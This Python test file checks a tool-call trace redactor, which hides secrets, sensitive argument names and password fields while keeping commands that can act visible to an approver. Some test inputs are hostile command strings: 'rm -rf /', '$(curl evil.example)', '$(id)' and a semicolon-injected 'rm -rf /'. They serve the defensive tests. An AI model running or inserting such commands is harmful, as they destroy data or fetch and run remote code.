"""Arguments as a record shows them."""

import hashlib
import re

from hypothesis import given
from hypothesis import strategies as st

from lineshaft import Tool
from lineshaft.trace import HIDDEN, Redactor
from lineshaft.values import ToolSpec

REDACTOR = Redactor(["s3cr3t-value"])


def shown(**arguments: object) -> dict[str, object]:
    return REDACTOR.arguments(None, arguments)


def summary(text: str) -> dict[str, object]:
    data = text.encode()
    return {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}


def test_short_arguments_are_shown() -> None:
    arguments = {"path": "a/b.py", "start": 1, "end": None, "deep": {"a": [True, 1.5, "x"]}}
    assert shown(**arguments) == arguments


def test_contents_become_sizes_and_hashes() -> None:
    content, text = "ä" * 100, "x" * 201
    assert shown(content=content, pattern=text) == {
        "content": summary(content),
        "pattern": summary(text),
    }
    assert shown(content="x" * 80, pattern="x" * 200) == {
        "content": "x" * 80,
        "pattern": "x" * 200,
    }


def test_contents_deep_in_arguments_do_too() -> None:
    edits = [{"old": "a", "new": "b" * 100}]
    assert shown(edits=edits) == {"edits": [{"old": "a", "new": summary("b" * 100)}]}


def test_a_large_list_or_table_becomes_its_size_and_hash() -> None:
    found = shown(rows=[{"n": n} for n in range(1_000)], table={str(n): n for n in range(1_000)})
    for name in ("rows", "table"):
        assert re.fullmatch(r"\{'bytes': \d+, 'sha256': '\w{64}'\}", str(found[name]))


def test_a_hash_is_of_what_is_left_when_the_secret_is_gone() -> None:
    content = "line\n" * 50
    assert shown(content=f"{content}s3cr3t-value") == {"content": summary(content + HIDDEN)}


def test_a_secret_that_straddles_the_cut_is_gone() -> None:
    for length in range(170, 215):
        found = shown(query="x" * length + " s3cr3t-value")["query"]
        assert found == summary("x" * length + f" {HIDDEN}") or "s3c" not in str(found)


def test_a_telling_name_hides_whatever_it_holds() -> None:
    assert shown(key="user:1", auth={"user": "me"}, token=1234, password="x" * 500) == {
        "key": HIDDEN,
        "auth": HIDDEN,
        "token": HIDDEN,
        "password": HIDDEN,
    }
    assert shown(headers={"X-Api-Key": "abc", "Accept": "x"}) == {
        "headers": {"X-Api-Key": HIDDEN, "Accept": "x"}
    }


def test_yes_no_and_nothing_are_no_secrets() -> None:
    assert shown(auth=True, token=None, key="") == {"auth": True, "token": None, "key": ""}


def test_a_path_stays_whatever_its_argument_is_called() -> None:
    spec = ToolSpec(name="sign", paths=(("key",),))
    assert REDACTOR.arguments(spec, {"key": "keys/a", "token": "b"}) == {
        "key": "keys/a",
        "token": HIDDEN,
    }


def test_a_schema_may_call_an_argument_a_password() -> None:
    pin = {"type": "string", "format": "password"}
    properties = {
        "pin": pin,
        "code": {"writeOnly": True},
        "maybe": {"anyOf": [pin, {"type": "null"}]},
        "several": {"type": "array", "items": pin},
        "login": {"$ref": "#/$defs/Login"},
        "other": {"type": "string"},
        "odd": True,
    }
    login = {"type": "object", "properties": {"name": {"type": "string"}, "word": pin}}
    schema = {"properties": properties, "$defs": {"Login": login}}
    spec = Tool.from_schema(name="login", input_schema=schema, function=dict).spec
    given = {
        "pin": "1",
        "code": "2",
        "maybe": "3",
        "several": ["4", "5"],
        "login": {"name": "6", "word": "7"},
        "other": "8",
        "odd": "9",
        "new": "10",
    }
    assert REDACTOR.arguments(spec, given) == {
        "pin": HIDDEN,
        "code": HIDDEN,
        "maybe": HIDDEN,
        "several": [HIDDEN, HIDDEN],
        "login": {"name": "6", "word": HIDDEN},
        "other": "8",
        "odd": "9",
        "new": "10",
    }
    assert "7" not in str(REDACTOR.whole(spec, {"login": {"word": "7777"}}))


def test_a_command_line_hides_what_follows_a_telling_flag() -> None:
    assert shown(command="login", args=["--password", "x", "-v"]) == {
        "command": "login",
        "args": ["--password", HIDDEN, "-v"],
    }


def test_nesting_without_end_is_cut() -> None:
    value: object = "x"
    for _ in range(5_000):
        value = [value]
    assert "[deeper than 100 levels]" in str(shown(a=value))


def test_text_that_no_encoding_can_hold_is_summed_up_all_the_same() -> None:
    found = shown(content="\udc80" * 300, rows=["\udc80"] * 3_000)
    assert all(
        re.fullmatch(r"\{'bytes': \d+, 'sha256': '\w{64}'\}", str(v)) for v in found.values()
    )


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)
SAFE = st.text("nopqr", min_size=1, max_size=5)


@given(st.dictionaries(SAFE, JSON, max_size=4), SAFE, SAFE)
def test_a_secret_in_arguments_of_any_shape_is_gone(
    arguments: dict[str, object], name: str, key: str
) -> None:
    found = shown(**{**arguments, name: [{key: f"a s3cr3t-value {name}"}]})
    assert "s3cr3t-value" not in str(found)
    assert f"a {HIDDEN} {name}" in str(found)


def test_an_integer_that_cannot_be_written_is_told_by_its_size() -> None:
    huge = 10**5_000
    text = "[integer of 16,610 bits]"
    assert shown(n=huge, m=-huge) == {"n": text, "m": text}
    assert shown(rows=[huge, 10**500]) == {"rows": [text, 10**500]}
    assert REDACTOR.value({"deep": [huge]}) == {"deep": [text]}


def test_whoever_approves_is_shown_all_but_the_secrets() -> None:
    long = "x" * 50_000
    given: dict[str, object] = {
        "content": f"{long} s3cr3t-value {long}",
        "rows": [{"n": n, "text": "y" * 100} for n in range(500)],
        "api_key": "k",
        "deep": {"password": "p", "key": "shown", "content": long},
        "password": "rm -rf /",
        "secret": ["sh", "-c", {"token": "$(curl evil.example)", "auth": True}],
        "argv": ["--token", "abc", "--token", "$(id)"],
    }
    assert REDACTOR.whole(None, given) == {
        "content": f"{long} {HIDDEN} {long}",
        "rows": given["rows"],
        "api_key": "[redacted, 1 character]",
        "deep": {"password": "[redacted, 1 character]", "key": "shown", "content": long},
        "password": "rm -rf /",
        "secret": given["secret"],
        "argv": ["--token", HIDDEN, "--token", "$(id)"],
    }


def test_what_a_schema_calls_a_password_nobody_is_shown_but_what_may_act() -> None:
    schema: dict[str, object] = {
        "type": "object",
        "properties": {"phrase": {"type": "string", "format": "password"}, "max_tokens": {}},
    }
    spec = Tool.from_schema(name="log_in", input_schema=schema, function=dict).spec
    given = {"phrase": "open-sesame", "max_tokens": 5}
    hidden = "[redacted, 11 characters]"
    assert REDACTOR.whole(spec, given) == {"phrase": hidden, "max_tokens": 5}
    assert REDACTOR.arguments(spec, given) == {"phrase": HIDDEN, "max_tokens": 5}
    acting = {"phrase": "open sesame; rm -rf /"}
    assert REDACTOR.whole(spec, acting) == acting
    assert REDACTOR.arguments(spec, acting) == {"phrase": HIDDEN}


def test_what_is_too_long_to_be_looked_through_is_told_by_its_size() -> None:
    most = 256_000
    assert shown(x="a" * most) == {"x": summary("a" * most)}
    assert shown(x="s3cr3t-value" + "é" * most) == {"x": {"bytes": 2 * most + 12}}
    rows = ["a" * 1_000] * 300
    assert shown(rows=rows, by={"é" * most: [rows]}) == {"rows": {"items": 300}, "by": {"items": 1}}
    assert shown(rows=[0] * most, t=("a",)) == {"rows": {"items": most}, "t": ["a"]}
    assert shown(by=dict.fromkeys(range(most))) == {"by": {"items": most}}


def test_all_arguments_of_a_call_together_are_looked_through_so_far() -> None:
    text = "a" * 200_000
    found = shown(first=text, second=text, third="x" * 300, deep=[{"text": text}])
    assert found == {
        "first": summary(text),
        "second": {"bytes": 200_000},
        "third": summary("x" * 300),
        "deep": {"items": 1},
    }


def test_a_secret_as_a_name_is_redacted_at_every_level() -> None:
    given: dict[str, object] = {"s3cr3t-value": "x", "deep": {"s3cr3t-value": "y"}}
    wanted = {HIDDEN: "x", "deep": {HIDDEN: "y"}}
    assert REDACTOR.arguments(None, given) == wanted
    assert REDACTOR.whole(None, given) == wanted
